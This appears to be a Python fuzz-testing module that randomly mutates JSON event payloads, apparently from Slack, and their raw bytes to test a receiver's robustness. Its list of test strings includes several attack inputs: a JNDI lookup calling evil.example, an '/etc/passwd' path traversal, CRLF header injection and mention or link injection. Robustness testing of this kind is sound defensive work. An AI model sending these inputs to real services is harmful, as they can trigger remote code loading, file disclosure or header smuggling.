"""Changes made to payloads by chance: of their fields, their values, their shape and their bytes. Pure."""

import json
import random
import re
from collections.abc import Callable
from copy import deepcopy
from typing import Any

Path = tuple[Any, ...]
Dice = random.Random
Node = dict[str, Any] | list[Any]

TEXTS = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\ud800",
    "\udfff\ud800",
    "\U0001f469‍\U0001f4bb" * 20,
    "‮evil‬",
    "​­﻿",
    "a\r\nX-Evil: 1\r\n\r\n",
    "\x1b[31mred\x1b[0m\x07",
    "<!channel> <@UBEN> <http://evil.example|click> &lt;!here&gt;",
    "```*_~`>",
    "%s %d {0} {text} ${jndi:ldap://evil.example}",
    "../../etc/passwd",
    "T0SLOT:C0GENERAL:dm}",
    "{lane}",
    "null",
    "-1",
    "1e999",
    "9" * 400,
    "1784019600.000100",
    "99999999999.999999999",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "x" * 3000,
    "é" * 20_000,
    "<@UBEN> " * 200,
    "tomorrow or " * 150,
    "ﷺ" * 500,
    "a" * 250_000,
)
VALUES: tuple[Any, ...] = (
    None,
    True,
    False,
    0,
    -1,
    1,
    2**31,
    2**63,
    -(2**64),
    10**400,
    0.1,
    1e308,
    -1e308,
    float("nan"),
    float("inf"),
    float("-inf"),
    [],
    {},
    [[]],
    [None] * 200,
    {"": ""},
    {"type": "event_callback"},
)
IDS = ("T0SLOT", "T9OTHER", "C0GENERAL", "C0SALES", "UANA", "UBEN", "UGIL", "USTR", "U0BOT", "D0", "B0BOT")
DEPTHS = (1, 3, 40, 100, 3000)


def mutated(payload: dict[str, Any], dice: Dice, others: list[dict[str, Any]]) -> str:
    """The payload as JSON, with one to four changes. `others`: whose fields it may get."""
    changed: dict[str, Any] = deepcopy(payload)
    for _ in range(dice.choice((1, 1, 1, 2, 2, 3, 4))):
        dice.choice(CHANGES)(changed, dice, others)
    text = json.dumps(changed, ensure_ascii=dice.random() < 0.5 or has_surrogates(changed))
    return dice.choice(REWRITES)(text, dice) if dice.random() < 0.15 else text


def has_surrogates(payload: Any) -> bool:
    return re.search("[\ud800-\udfff]", json.dumps(payload, ensure_ascii=False)) is not None


def mangled(body: bytes, dice: Dice) -> bytes:
    """The bytes with some flipped, lost, added or said twice."""
    changed = bytearray(body)
    for _ in range(dice.choice((1, 1, 2, 5, 30))):
        at = dice.randrange(len(changed) + 1)
        match dice.randrange(5):
            case 0 if at < len(changed):
                changed[at] ^= 1 << dice.randrange(8)
            case 1:
                changed[at:at] = dice.randbytes(dice.choice((1, 2, 9)))
            case 2:
                del changed[at : at + dice.choice((1, 3, 50))]
            case 3:
                changed[at:at] = changed[at : at + dice.choice((1, 20, 400))]
            case _:
                changed[at:at] = dice.choice((b"&" * 1000, b"\x00", b"\xff\xfe", b'"', b"}", b"%00", b"="))
    return bytes(changed)


# One change each


def places(payload: Any) -> list[tuple[Node, Any]]:
    """Every value's home: what holds it, and under which key or number."""
    found: list[tuple[Node, Any]] = []
    waiting = [payload]
    while waiting:
        node = waiting.pop()
        inside = node.items() if isinstance(node, dict) else enumerate(node)
        for key, value in list(inside):
            found.append((node, key))
            if isinstance(value, dict | list):
                waiting.append(value)
    return found


def place(payload: Any, dice: Dice) -> tuple[Node, Any] | None:
    """One of them; those near the root come oftener, for they decide more."""
    found = places(payload)
    if not found:
        return None
    return dice.choice(found[: max(1, len(found) // 3)] if dice.random() < 0.4 else found)


def drop(payload: Any, dice: Dice, others: list[Any]) -> None:
    if chosen := place(payload, dice):
        del chosen[0][chosen[1]]


def retype(payload: Any, dice: Dice, others: list[Any]) -> None:
    if chosen := place(payload, dice):
        chosen[0][chosen[1]] = deepcopy(dice.choice(VALUES))


def reword(payload: Any, dice: Dice, others: list[Any]) -> None:
    chosen = place(payload, dice)
    if chosen:
        old = chosen[0][chosen[1]]
        new = dice.choice((*TEXTS, *IDS))
        chosen[0][chosen[1]] = old + new if isinstance(old, str) and dice.random() < 0.3 else new


def edit(payload: Any, dice: Dice, others: list[Any]) -> None:
    """A letter or two of a text."""
    texts = [one for one in places(payload) if isinstance(one[0][one[1]], str)]
    if texts:
        home, key = dice.choice(texts)
        old = home[key]
        at = dice.randrange(len(old) + 1)
        home[key] = old[:at] + dice.choice((*"0aZ.|:-<>&@", "", "​", "é")) + old[at + dice.randrange(2) :]


def deepen(payload: Any, dice: Dice, others: list[Any]) -> None:
    if chosen := place(payload, dice):
        value = chosen[0][chosen[1]]
        for _ in range(dice.choice(DEPTHS[:4])):
            value = [value] if dice.random() < 0.5 else {"a": value}
        chosen[0][chosen[1]] = value


def swap(payload: Any, dice: Dice, others: list[Any]) -> None:
    one, other = place(payload, dice), place(payload, dice)
    if one and other:
        value = deepcopy(other[0][other[1]])
        other[0][other[1]] = deepcopy(one[0][one[1]])
        one[0][one[1]] = value


def borrow(payload: Any, dice: Dice, others: list[Any]) -> None:
    """A field of another payload."""
    other = place(dice.choice(others), dice)
    chosen = place(payload, dice)
    if chosen and other:
        value = deepcopy(other[0][other[1]])
        if isinstance(chosen[0], dict) and isinstance(other[0], dict) and dice.random() < 0.7:
            chosen[0][other[1]] = value
        else:
            chosen[0][chosen[1]] = value


def multiply(payload: Any, dice: Dice, others: list[Any]) -> None:
    if chosen := place(payload, dice):
        chosen[0][chosen[1]] = [deepcopy(chosen[0][chosen[1]]) for _ in range(dice.choice((2, 3, 60)))]


CHANGES: tuple[Callable[[Any, Dice, list[Any]], None], ...] = (
    drop,
    drop,
    retype,
    retype,
    reword,
    reword,
    edit,
    edit,
    deepen,
    swap,
    borrow,
    multiply,
)


# Of the written JSON


def doubled_keys(text: str, dice: Dice) -> str:
    """A key said twice, with another value first."""
    keys = list(re.finditer(r'"[a-z_]+": ', text))
    if not keys:
        return text
    key = dice.choice(keys)
    return f"{text[: key.start()]}{key[0]}{dice.choice(('null', '7', '[]', '[NaN]'))}, {text[key.start() :]}"


def nested(text: str, dice: Dice) -> str:
    depth = dice.choice(DEPTHS) * 10
    return text[:-1] + ', "deep": ' + "[" * depth + "]" * depth + "}"


def unended(text: str, dice: Dice) -> str:
    return text[: dice.randrange(len(text))]


def followed(text: str, dice: Dice) -> str:
    return text + dice.choice((" ", "\n{}", ",", "\x00", text))


REWRITES: tuple[Callable[[str, Dice], str], ...] = (doubled_keys, doubled_keys, nested, unended, followed)
